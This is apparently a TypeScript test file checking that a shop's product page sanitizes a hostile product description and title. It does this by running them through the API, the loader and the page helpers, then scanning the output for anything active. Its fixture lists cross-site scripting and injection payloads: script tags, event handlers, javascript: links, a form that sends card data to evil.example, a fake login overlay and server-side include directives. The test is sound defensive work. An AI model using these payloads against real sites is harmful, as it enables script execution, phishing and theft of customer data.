import { describe, expect, it } from 'vitest';
import { upsertCollection, upsertProduct } from '../../../server/catalog/write.ts';
import { testApp } from '../../../server/testing/app.ts';
import { parseProductRecord } from '../../../shared/contracts/product-record.ts';
import { ALLOWED_IFRAME_HOSTS } from '../../../shared/format/sanitize-html.ts';
import { jsonLdText } from '../seo/json-ld.ts';
import { productGallery } from './gallery.ts';
import { activeContent } from './html-audit.ts';
import { productJsonLd } from './json-ld.ts';
import { strayCommands } from '../shell/shell-parts.ts';
import { productTitle } from './title.ts';

// "a product with a hostile description renders inert". The record goes through
// the real API and the loader's schema, then through the helpers the product page uses, and
// the HTML the page would write is scanned for anything that could run.
const HOSTILE_DESCRIPTION = [
  '<p onclick="steal()" onmouseover="steal()">Sturdy wheel</p>',
  '<script>alert("script")</script>',
  '<img src="x" onerror="alert(1)" alt="wheel">',
  '<a href="javascript:alert(2)">click</a>',
  '<a href="JaVaScRiPt&colon;alert(3)">again</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">data</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Fake login</div>',
  '<style>body{display:none}</style>',
  '<svg><animate onbegin="alert(5)" attributeName="x"></animate></svg>',
  '<form action="https://evil.example"><input name="card"></form>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<!--# include virtual="/api/customer/account" --><p>Fits <!--#echo var="remote_addr" --></p>',
].join('\n');

async function hostileRecord() {
  const { app, db } = testApp();
  upsertCollection(db, { handle: 'wheels', title: 'Wheels' });
  upsertProduct(db, {
    handle: 'hostile-wheel',
    title:
      'Hostile <b onclick="x()">Wheel</b><script>alert(6)</script><!--# include virtual="/api/customer" -->',
    vendor: 'Crown',
    sku: 'HOSTILE-1',
    price: 12.5,
    collections: ['wheels'],
    descriptionHtml: HOSTILE_DESCRIPTION,
    variants: [{ title: 'Default Title', price: 12.5, inventory: { availableQuantity: 5 } }],
  });
  const reply = await app.request('http://localhost/api/products/handle/hostile-wheel');
  const { product } = (await reply.json()) as { product: unknown };
  const parsed = parseProductRecord(product);
  if (!parsed.ok) throw new Error(parsed.problem);
  return parsed.product;
}

describe('a hostile product record', () => {
  it('keeps its content but loses everything active in the loader', async () => {
    const product = await hostileRecord();
    const html = product.descriptionHtml;
    expect(activeContent(html, ALLOWED_IFRAME_HOSTS)).toEqual([]);
    expect(html).toContain('Sturdy wheel');
    expect(html).toContain('https://www.youtube.com/embed/dQw4w9WgXcQ');
    expect(html).not.toMatch(/<script|<style|style=|evil\.example|<form|<input|<object|<embed/i);
    expect(html).not.toMatch(/javascript:|data:text/i);
  });

  it('renders inert in the markup the product page writes', async () => {
    const product = await hostileRecord();
    const title = productTitle(product.title);
    const gallery = productGallery(product, {
      title: title.plain,
      noImageUrl: '/no-image.svg',
      cdnPrefix: '/api/media/products/',
      video: { embedBase: 'https://www.youtube.com/embed/', thumbnailBase: 'https://i.ytimg/' },
    });
    const structured = productJsonLd(
      { ...product, title: title.plain },
      {
        url: 'https://shop.example/products/hostile-wheel',
        images: [gallery.main.src],
        description: product.descriptionHtml,
        currency: 'USD',
        buildDate: new Date('2024-06-01T00:00:00Z'),
        returnDays: 30,
        freeShippingValue: 199,
      },
    );
    // The same composition as src/routes/product.astro: set:html for the title markup and
    // the description, text (escaped) for the plain title, jsonLdText for the JSON-LD.
    const page = [
      `<script type="application/ld+json">${jsonLdText(structured)}</script>`,
      `<h1><span>${title.markup ?? ''}</span><span>${escape(title.plain)}</span></h1>`,
      `<div class="description">${product.descriptionHtml}</div>`,
    ].join('\n');
    expect(activeContent(page, ALLOWED_IFRAME_HOSTS)).toEqual([]);
    // No server-side include survives for nginx to act on (the build refuses a page with one).
    expect(strayCommands(page)).toEqual([]);
    expect(title.markup).toBe('Hostile <b>Wheel</b>');
    expect(title.plain).toBe('Hostile Wheel');
    expect(jsonLdText(structured)).not.toMatch(/<\/?script/i);
  });
});

const escape = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
